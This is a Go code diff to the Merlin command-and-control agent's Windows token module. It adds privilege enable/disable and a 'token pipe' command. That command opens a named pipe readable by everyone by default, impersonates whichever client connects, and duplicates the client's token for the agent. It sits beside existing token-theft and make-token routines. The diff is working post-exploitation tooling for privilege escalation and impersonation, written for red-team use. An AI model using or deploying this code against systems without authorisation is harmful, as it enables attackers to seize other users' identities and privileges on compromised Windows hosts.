@@ -24,8 +24,11 @@ import (
 	// Standard
 	"fmt"
 	"os"
+	"runtime"
 	"strconv"
 	"strings"
+	"sync"
+	"time"
 
 	// X Packages
 	"golang.org/x/sys/windows"
@@ -34,16 +37,29 @@ import (
 	"github.com/Ne0nd0g/merlin/pkg/jobs"
 
 	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cleanup"
 	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/advapi32"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/kernel32"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/pkg/pipes"
 	"github.com/Ne0nd0g/merlin-agent/os/windows/pkg/tokens"
 )
 
 // Token is the entrypoint for Jobs that are processed to determine which Token function should be executed
 func Token(cmd jobs.Command) jobs.Results {
-	cli.Message(cli.DEBUG, fmt.Sprintf("entering Token() with %+v", cmd))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Token() with %+v", cmd))
+	}
 
 	if len(cmd.Args) > 0 {
 		switch strings.ToLower(cmd.Args[0]) {
+		case "disable", "enable":
+			if len(cmd.Args) < 2 {
+				return jobs.Results{
+					Stderr: fmt.Sprintf("at least one privilege must be provided for the token %s command", cmd.Args[0]),
+				}
+			}
+			return adjustPrivileges(cmd.Args[1:], strings.ToLower(cmd.Args[0]) == "enable")
 		case "make":
 			if len(cmd.Args) < 3 {
 				return jobs.Results{
@@ -51,6 +67,28 @@ func Token(cmd jobs.Command) jobs.Results {
 				}
 			}
 			return makeToken(cmd.Args[1], cmd.Args[2])
+		case "pipe":
+			// 0. pipe, 1. pipe name, 2. SDDL, 3. timeout
+			if len(cmd.Args) < 2 {
+				return jobs.Results{
+					Stderr: "a pipe name must be provided for the token pipe command",
+				}
+			}
+			sddl := "D:(A;;GA;;;WD)"
+			if len(cmd.Args) > 2 && cmd.Args[2] != "" {
+				sddl = cmd.Args[2]
+			}
+			timeout := time.Minute * 5
+			if len(cmd.Args) > 3 {
+				var err error
+				timeout, err = time.ParseDuration(cmd.Args[3])
+				if err != nil {
+					return jobs.Results{
+						Stderr: fmt.Sprintf("there was an error parsing the timeout %s: %s", cmd.Args[3], err),
+					}
+				}
+			}
+			return pipeImpersonate(cmd.Args[1], sddl, timeout)
 		case "privs":
 			if len(cmd.Args) > 1 {
 				return listPrivileges(cmd.Args[1])
@@ -163,6 +201,60 @@ func listPrivileges(processID string) (results jobs.Results) {
 	return
 }
 
+// adjustPrivileges enables or disables the privileges in the agent's access token and reports each privilege's state
+// before and after the change. A previously stolen or created token is used if there is one
+func adjustPrivileges(names []string, enable bool) (results jobs.Results) {
+	token := tokens.Token
+	if token == 0 {
+		err := windows.OpenProcessToken(windows.CurrentProcess(), windows.TOKEN_ADJUST_PRIVILEGES|windows.TOKEN_QUERY, &token)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error calling windows.OpenProcessToken(): %s", err)
+			return
+		}
+		defer func() {
+			err2 := token.Close()
+			if err2 != nil {
+				results.Stderr += fmt.Sprintf("there was an error calling token.Close(): %s\n", err2)
+			}
+		}()
+	} else {
+		results.Stdout += "Adjusting privileges in the previously stolen or created Windows access token\n"
+	}
+
+	for _, name := range names {
+		name = tokens.PrivilegeName(name)
+		before, held, err := tokens.PrivilegeState(token, name)
+		if err != nil {
+			results.Stderr += fmt.Sprintf("%s\n", err)
+			continue
+		}
+		if !held {
+			results.Stderr += fmt.Sprintf("%s: not held by the token\n", name)
+			continue
+		}
+		err = tokens.AdjustPrivilege(token, name, enable)
+		if err != nil {
+			results.Stderr += fmt.Sprintf("%s\n", err)
+			continue
+		}
+		after, _, err := tokens.PrivilegeState(token, name)
+		if err != nil {
+			results.Stderr += fmt.Sprintf("%s\n", err)
+			continue
+		}
+		results.Stdout += fmt.Sprintf("%s: %s -> %s\n", name, privilegeEnabled(before), privilegeEnabled(after))
+	}
+	return
+}
+
+// privilegeEnabled returns enabled or disabled for a privilege's attributes
+func privilegeEnabled(attributes uint32) string {
+	if attributes&windows.SE_PRIVILEGE_ENABLED != 0 {
+		return "enabled"
+	}
+	return "disabled"
+}
+
 // makeToken creates a new type 9 logon session for the provided user and applies the returned Windows access token to
 // the current process using the ImpersonateLoggedOnUser Windows API call
 func makeToken(username, password string) (results jobs.Results) {
@@ -174,6 +266,7 @@ func makeToken(username, password string) (results jobs.Results) {
 	}
 
 	tokens.Token = token
+	tokens.NetOnly = username
 
 	// Get Token Stats
 	stats, err := tokens.GetTokenStats(token)
@@ -187,9 +280,112 @@ func makeToken(username, password string) (results jobs.Results) {
 	return
 }
 
+// pipeImpersonate creates a named pipe with the provided SDDL, waits for a client to connect and write data,
+// impersonates the client, and applies a duplicate of the client's token to the agent the same way as token steal
+func pipeImpersonate(name, sddl string, timeout time.Duration) (results jobs.Results) {
+	pipe, err := pipes.CreateNamedPipe(name, sddl)
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	// The handle is closed once, either when the function returns or by the exit-time cleanup while still waiting
+	var closeOnce sync.Once
+	var errClose error
+	closePipe := func() error {
+		closeOnce.Do(func() { errClose = windows.CloseHandle(pipe) })
+		return errClose
+	}
+	remove := cleanup.Add(cleanup.PIPE, name, closePipe)
+	defer func() {
+		remove()
+		if err := closePipe(); err != nil {
+			results.Stderr += fmt.Sprintf("\nthere was an error closing the named pipe handle: %s", err)
+		}
+	}()
+
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Waiting %s for a client to connect to named pipe %s", timeout, name))
+	}
+	err = pipes.WaitForClient(pipe, timeout)
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	defer func() {
+		errDisconnect := kernel32.DisconnectNamedPipe(pipe)
+		if errDisconnect != nil {
+			results.Stderr += fmt.Sprintf("\n%s", errDisconnect)
+		}
+	}()
+
+	// Impersonation applies to the calling thread so the goroutine must not move while the token is opened
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+
+	err = advapi32.ImpersonateNamedPipeClient(pipe)
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+
+	var token windows.Token
+	err = windows.OpenThreadToken(windows.CurrentThread(), windows.TOKEN_DUPLICATE|windows.TOKEN_QUERY|windows.TOKEN_IMPERSONATE, true, &token)
+	errRevert := windows.RevertToSelf()
+	if errRevert != nil {
+		results.Stderr = fmt.Sprintf("there was an error reverting the thread after impersonating the named pipe client: %s\n", errRevert)
+	}
+	if err != nil {
+		results.Stderr += fmt.Sprintf("there was an error calling advapi32!OpenThreadToken: %s", err)
+		return
+	}
+	defer token.Close()
+
+	// The client's impersonation level determines what the token can be used for
+	clientStats, err := tokens.GetTokenStats(token)
+	if err != nil {
+		results.Stderr += err.Error()
+		return
+	}
+
+	// Duplicate the token with maximum permissions
+	var dupToken windows.Token
+	err = windows.DuplicateTokenEx(token, windows.MAXIMUM_ALLOWED, &windows.SecurityAttributes{}, windows.SecurityImpersonation, windows.TokenPrimary, &dupToken)
+	if err != nil {
+		results.Stderr += fmt.Sprintf("there was an error calling windows.DuplicateTokenEx: %s", err)
+		return
+	}
+
+	// Release the token this one replaces so its handle is not leaked
+	if tokens.Token != 0 {
+		_ = tokens.Token.Close()
+	}
+	tokens.Token = dupToken
+	tokens.NetOnly = ""
+
+	user, err := tokens.GetTokenUsername(dupToken)
+	if err != nil {
+		results.Stderr += err.Error()
+		return
+	}
+	stats, err := tokens.GetTokenStats(dupToken)
+	if err != nil {
+		results.Stderr += err.Error()
+		return
+	}
+	level, err := tokens.GetTokenIntegrityLevel(dupToken)
+	if err != nil {
+		level = "Unknown"
+	}
+
+	results.Stdout = fmt.Sprintf("Successfully impersonated named pipe %s client %s with LogonID 0x%X, Client Impersonation Level: %s, Integrity Level: %s",
+		name, user, stats.AuthenticationId.LowPart, tokens.ImpersonationToString(clientStats.ImpersonationLevel), level)
+	return
+}
+
 // rev2self releases or drops any impersonation tokens applied to the current process, reverting to its original state
 func rev2self() (results jobs.Results) {
 	tokens.Token = 0
+	tokens.NetOnly = ""
 	err := windows.RevertToSelf()
 	if err != nil {
 		results.Stderr = err.Error()
@@ -242,6 +438,7 @@ func stealToken(pid uint32) (results jobs.Results) {
 	}
 
 	tokens.Token = dupToken
+	tokens.NetOnly = ""
 
 	// Get Thread Token TOKEN_STATISTICS structure
 	statThread, err := tokens.GetTokenStats(tokens.Token)
@@ -334,6 +531,7 @@ func whoami() (results jobs.Results) {
 	if err == nil {
 		results.Stdout += fmt.Sprintf(",Integrity Level: %s", tLevel)
 	}
+	results.Stdout += fmt.Sprintf("\nNetwork Identity: %s", networkIdentity())
 
 	return
 }